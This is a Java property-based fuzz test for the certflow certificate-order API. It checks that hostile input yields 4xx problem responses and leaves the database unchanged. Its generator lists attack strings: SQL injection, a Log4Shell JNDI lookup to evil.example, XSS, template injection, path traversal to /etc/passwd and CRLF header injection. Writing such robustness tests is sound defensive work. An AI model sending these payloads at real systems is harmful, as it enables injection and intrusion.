package nl.certflow.fuzz;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import nl.certflow.ApiClient;
import nl.certflow.ApiClient.Response;
import nl.certflow.CertflowApplication;
import nl.certflow.TestCsrs;
import nl.certflow.TestOrders;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Hostile input, generated: every API body, path, query and header and the webhook form get huge fields, wrong
 * types, broken PEM, unicode, injection strings and missing fields. Whatever arrives, certflow answers a 4xx
 * problem (or, for input that happens to be valid, its normal answer) — never a 5xx — and a rejection changes
 * nothing. jqwik runs the service once for the whole class (it does not run Spring's test extension).
 */
class HostileInputProperties {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String CN = "fuzz.example.com";
    private static final String VALID_CSR = TestCsrs.ec(CN);
    private static final int MAX_BODY = 64 * 1024;

    private static ConfigurableApplicationContext app;
    private static ApiClient api;
    private static JdbcTemplate jdbc;

    @BeforeContainer
    static void start() {
        app = new SpringApplicationBuilder(CertflowApplication.class).profiles("test").run("--server.port=0");
        api = new ApiClient(app.getEnvironment().getRequiredProperty("local.server.port", Integer.class));
        jdbc = app.getBean(JdbcTemplate.class);
    }

    @AfterContainer
    static void stop() {
        app.close();
    }

    // ------------------------------------------------------------------ properties

    @Property
    void createWithHostileFieldsIsRejectedWithoutTrace(@ForAll("hostileOrders") String body) {
        long orders = count("cf_order");
        Response response = api.post("alice", "alice-secret", "/api/orders", body);
        if (response.status() == 201) {
            return; // the mutations happened to leave a valid order
        }
        assertProblem(response);
        assertThat(count("cf_order")).isEqualTo(orders);
    }

    @Property
    void patchWithHostileFieldsIsRejectedWithoutTrace(@ForAll("hostilePatches") String body) {
        String id = openOrder();
        String before = order(id);
        Response response = api.patch("alice", "alice-secret", "/api/orders/" + id, body);
        if (response.status() == 200) {
            return;
        }
        assertProblem(response);
        assertThat(order(id)).isEqualTo(before);
    }

    @Property
    void cancelWithAHostileBodyIsRejectedWithoutTrace(@ForAll("hostileValues") JsonNode reason, @ForAll boolean wrapped) {
        String id = openOrder();
        String before = order(id);
        String body = wrapped ? NODES.objectNode().set("reason", reason).toString() : reason.toString();
        Response response = api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", body);
        if (response.status() == 202) {
            return;
        }
        assertProblem(response);
        assertThat(order(id)).isEqualTo(before);
    }

    @Property
    void hostilePathsAndQueriesAreRejectedWithoutTrace(@ForAll("hostileStrings") String id,
            @ForAll("hostileStrings") String status, @ForAll("hostileStrings") String page,
            @ForAll("methodsAndPaths") String methodAndPath) {
        long orders = count("cf_order");
        long history = count("cf_order_history");
        String[] parts = methodAndPath.split(" ", 2);
        String path = parts[1].replace("{id}", pathSegment(id)) + "?status=" + query(status) + "&page=" + query(page)
                + "&size=" + query(id);
        Response response = api.send(api.request("alice", "alice-secret", path).header("Content-Type", "application/json")
                .method(parts[0], HttpRequest.BodyPublishers.ofString("{}")));

        assertThat(response.status()).as(path + " " + response.body()).isBetween(400, 499);
        if (!response.contentType().startsWith("text/html")) { // Tomcat's own 400 for a URI it refuses (%00, too long)
            assertThat(response.contentType()).as(path).startsWith("application/problem+json");
        }
        assertThat(count("cf_order")).isEqualTo(orders);
        assertThat(count("cf_order_history")).isEqualTo(history);
    }

    @Property
    void hostileHeadersNeverCauseA5xx(@ForAll("headerValues") String contentType, @ForAll("headerValues") String accept,
            @ForAll("headerValues") String authorization, @ForAll("headerValues") String forwardedFor,
            @ForAll("methodsAndPaths") String methodAndPath) {
        long orders = count("cf_order");
        String[] parts = methodAndPath.split(" ", 2);
        Response response = api.send(api.request(null, null, parts[1].replace("{id}", "x"))
                .header("Content-Type", contentType).header("Accept", accept).header("Authorization", authorization)
                .header("X-Forwarded-For", forwardedFor)
                .method(parts[0], HttpRequest.BodyPublishers.ofString(TestOrders.dv(CN).toString())));

        assertThat(response.status()).as(response.body()).isBetween(400, 499);
        assertThat(count("cf_order")).isEqualTo(orders);
    }

    @Property
    void hostileWebhookFormIsRejectedOrStoredOnce(@ForAll("hostileForms") String form, @ForAll boolean asGet) {
        long pushes = count("cf_ca_push");
        Response response = asGet ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
                : api.form("sectigo", "push-secret", "/webhooks/sectigo", form);
        if (response.status() == 200) {
            assertThat(response.body()).isIn("OK", "OK duplicate");
            assertThat(count("cf_ca_push")).isEqualTo(pushes + (response.body().equals("OK") ? 1 : 0));
            return;
        }
        if (!(asGet && response.status() == 400 && response.contentType().startsWith("text/html"))) {
            assertProblem(response); // else Tomcat's own 400: a query string longer than its header limit
        }
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    // ------------------------------------------------------------------ size limits

    @Example
    void oversizedBodiesAre413ProblemsAndStoreNothing() {
        long orders = count("cf_order");
        long pushes = count("cf_ca_push");
        String hugeOrder = TestOrders.dv(CN).put("commonName", "a".repeat(MAX_BODY)).toString();
        String hugeForm = "orderNumber=1&statusCode=6&statusDesc=" + "a".repeat(MAX_BODY);

        assertProblem(api.post("alice", "alice-secret", "/api/orders", hugeOrder), 413);
        assertProblem(api.send(api.request("alice", "alice-secret", "/api/orders").header("Content-Type", "application/json")
                .POST(chunked(hugeOrder))), 413);
        assertProblem(api.form("sectigo", "push-secret", "/webhooks/sectigo", hugeForm), 413);
        assertProblem(api.post(null, null, "/api/orders", hugeOrder), 413);
        Response chunkedForm = api.send(api.request("sectigo", "push-secret", "/webhooks/sectigo")
                .header("Content-Type", "application/x-www-form-urlencoded").POST(chunked(hugeForm)));
        assertThat(chunkedForm.status()).as("Tomcat's form cap; the fields it dropped make it malformed").isEqualTo(400);

        assertThat(count("cf_order")).isEqualTo(orders);
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    @Example
    void bodiesJustUnderTheCapAreRead() {
        String body = TestOrders.dv(CN).put("commonName", "a".repeat(MAX_BODY - 2_000)).toString();
        Response response = api.send(api.request("alice", "alice-secret", "/api/orders").header("Content-Type", "application/json")
                .POST(chunked(body)));
        assertProblem(response, 400);
        assertThat(response.json().get("errors").findValuesAsText("field")).contains("commonName");
    }

    // ------------------------------------------------------------------ generators

    @Provide
    Arbitrary<String> hostileStrings() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('a', 'z').ofMinLength(1_000).ofMaxLength(MAX_BODY + 1_000),
                Arbitraries.of("' OR '1'='1", "'; DROP TABLE cf_order; --", "${jndi:ldap://evil.example/a}", "#{7*7}",
                        "<script>alert(1)</script>", "../../../etc/passwd", "%00", "\u0000", "\r\nX-Injected: 1", "",
                        " ", "null", "-1", "2147483648", "1e309", "NaN", "ＷＷＷ.example.com", "é.example.nl",
                        "xn--.example", "\u202Emoc.elpmaxe", "😀.example.com", "*.*.example.com", "a..b", "."),
                Arbitraries.of(brokenPems()));
    }

    @Provide
    Arbitrary<JsonNode> hostileValues() {
        return Arbitraries.oneOf(
                hostileStrings().map(NODES::textNode),
                Arbitraries.of(NODES.nullNode(), NODES.booleanNode(true), NODES.numberNode(Long.MAX_VALUE),
                        NODES.numberNode(-1), NODES.numberNode(0.5), NODES.numberNode(new BigInteger("9".repeat(400))),
                        NODES.objectNode(), NODES.arrayNode()),
                hostileStrings().list().ofMaxSize(3).map(values -> {
                    ArrayNode array = NODES.arrayNode();
                    values.forEach(array::add);
                    return array;
                }),
                Arbitraries.integers().between(1, 300).map(HostileInputProperties::deeplyNested));
    }

    @Provide
    Arbitrary<String> hostileOrders() {
        return mutations(List.of("validation", "commonName", "subjectAlternativeNames", "csr", "validityDays", "requester",
                "requester.name", "requester.email", "requester.phone", "company", "company.name", "company.kvkNumber",
                "company.country", "company.street", "company.postalCode", "company.city", "extra"), true);
    }

    @Provide
    Arbitrary<String> hostilePatches() {
        return mutations(List.of("csr", "subjectAlternativeNames", "requester", "requester.name", "requester.email",
                "requester.phone", "company", "company.name", "company.kvkNumber", "company.country", "extra", "validation"), false);
    }

    @Provide
    Arbitrary<String> methodsAndPaths() {
        return Arbitraries.of("GET /api/orders/{id}", "PATCH /api/orders/{id}", "POST /api/orders/{id}/submit",
                "POST /api/orders/{id}/cancel", "GET /api/orders", "DELETE /api/orders/{id}", "PUT /api/orders/{id}",
                "POST /api/orders/{id}/unknown");
    }

    @Provide
    Arbitrary<String> headerValues() {
        return Arbitraries.oneOf(
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(60),
                Arbitraries.of("application/json", "application/json; charset=ISO-8859-1", "application/xml", "text/plain",
                        "multipart/form-data; boundary=x", "*/*", "Basic", "Basic !!!", "Basic " + base64("alice"),
                        "Basic " + base64("alice:"), "Basic " + base64(":alice-secret"), "Bearer x.y.z",
                        "Digest username=alice", "127.0.0.1, 10.0.0.1", "unknown", "::1", "999.999.999.999"));
    }

    @Provide
    Arbitrary<String> hostileForms() {
        Arbitrary<String> field = Arbitraries.of("orderNumber", "certificateID", "eventType", "status", "statusCode",
                "statusDesc", "certificate", "caCertificate", "revocationReasonCode", "unknown");
        Arbitrary<String> value = Arbitraries.oneOf(hostileStrings(), Arbitraries.of("6", "7", "8", "12", "14", "0",
                "-1", "12345678", "abc-_09"));
        Arbitrary<String> pair = Combinators.combine(field, value).as((name, v) -> name + "=" + query(v));
        return pair.list().ofMaxSize(8).map(pairs -> String.join("&", pairs));
    }

    // ------------------------------------------------------------------ helpers

    private Arbitrary<String> mutations(List<String> fields, boolean create) {
        Arbitrary<Change> mutation = Combinators.combine(Arbitraries.of(fields),
                Arbitraries.oneOf(hostileValues(), Arbitraries.just((JsonNode) null)))
                .as(Change::new);
        return mutation.list().ofMinSize(1).ofMaxSize(3).map(changes -> {
            ObjectNode order = create ? TestOrders.dv(CN).put("csr", VALID_CSR)
                    : (ObjectNode) NODES.objectNode().set("requester", TestOrders.dv(CN).get("requester"));
            order.set("company", TestOrders.company("Test BV Donald", "68750110"));
            for (Change change : changes) {
                String[] path = change.field().split("\\.");
                ObjectNode parent = order;
                if (path.length == 2) {
                    if (!(order.get(path[0]) instanceof ObjectNode nested)) {
                        continue;
                    }
                    parent = nested;
                }
                String name = path[path.length - 1];
                if (change.value() == null) {
                    parent.remove(name);
                } else {
                    parent.set(name, change.value());
                }
            }
            return order.toString();
        });
    }

    /** Replace a field by a value, or remove it ({@code value} null). */
    private record Change(String field, JsonNode value) {
    }

    private static List<String> brokenPems() {
        String valid = VALID_CSR;
        List<String> pems = new ArrayList<>();
        pems.add(valid.substring(0, valid.length() / 2));
        pems.add(valid.replace("-----END CERTIFICATE REQUEST-----", ""));
        pems.add(valid.replaceFirst("[A-Za-z]", "!"));
        pems.add(valid.substring(0, 80) + "AAAA" + valid.substring(84));
        pems.add("-----BEGIN CERTIFICATE REQUEST-----\n-----END CERTIFICATE REQUEST-----\n");
        pems.add("-----BEGIN CERTIFICATE REQUEST-----\n" + "QUFB".repeat(3000) + "\n-----END CERTIFICATE REQUEST-----\n");
        pems.add("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n");
        pems.add(valid + valid);
        pems.add(TestCsrs.ec("other.example.com"));
        return pems;
    }

    private static JsonNode deeplyNested(int depth) {
        JsonNode node = NODES.textNode("x");
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    private static String openOrder() {
        Response created = api.post("alice", "alice-secret", "/api/orders", TestOrders.dv(CN).put("csr", VALID_CSR).toString());
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return created.id();
    }

    private static String order(String id) {
        return api.get("alice", "alice-secret", "/api/orders/" + id).body();
    }

    private static long count(String table) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class);
    }

    private static void assertProblem(Response response) {
        assertThat(response.status()).as(response.body()).isBetween(400, 499);
        assertProblem(response, response.status());
    }

    private static void assertProblem(Response response, int status) {
        assertThat(response.status()).as(response.body()).isEqualTo(status);
        assertThat(response.contentType()).as(response.body()).startsWith("application/problem+json");
        assertThat(response.json().get("status").asInt()).isEqualTo(status);
        assertThat(response.json().get("title").asText()).isNotBlank();
    }

    private static String pathSegment(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String query(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String base64(String value) {
        return Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8));
    }

    /** A body without Content-Length: sent chunked. */
    private static HttpRequest.BodyPublisher chunked(String body) {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        return HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes));
    }
}
